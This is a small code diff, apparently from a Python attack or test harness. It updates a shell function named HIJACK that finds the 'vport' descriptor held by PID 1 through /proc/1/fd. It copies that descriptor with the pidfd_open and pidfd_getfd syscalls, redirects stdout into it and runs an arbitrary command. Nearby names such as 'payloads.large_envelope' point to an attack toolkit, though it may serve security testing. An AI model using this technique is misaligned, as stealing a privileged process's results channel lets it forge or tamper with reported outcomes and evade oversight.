@@ -25,7 +25,9 @@ MOST_MEMORY = 400 << 20
 HIJACK = """\
 # The results port is held by the first process, which nobody can kill: its handle is taken over.
 hijack() {
-    perl -MPOSIX -e '$f = syscall(438, syscall(434, 1, 0), 3, 0); POSIX::dup2($f, 1) or die; exec "sh", "-c", $ARGV[0]' "$1"
+    handle=$(ls -l /proc/1/fd | sed -n 's/.* \\([0-9]*\\) -> .*vport.*/\\1/p' | head -n 1)
+    perl -MPOSIX -e '$f = syscall(438, syscall(434, 1, 0), $ARGV[0] + 0, 0); POSIX::dup2($f, 1) or die "$!";
+        exec "sh", "-c", $ARGV[1]' "$handle" "$1"
 }
 """
 HEAD, ZEROS, TAIL = payloads.large_envelope()
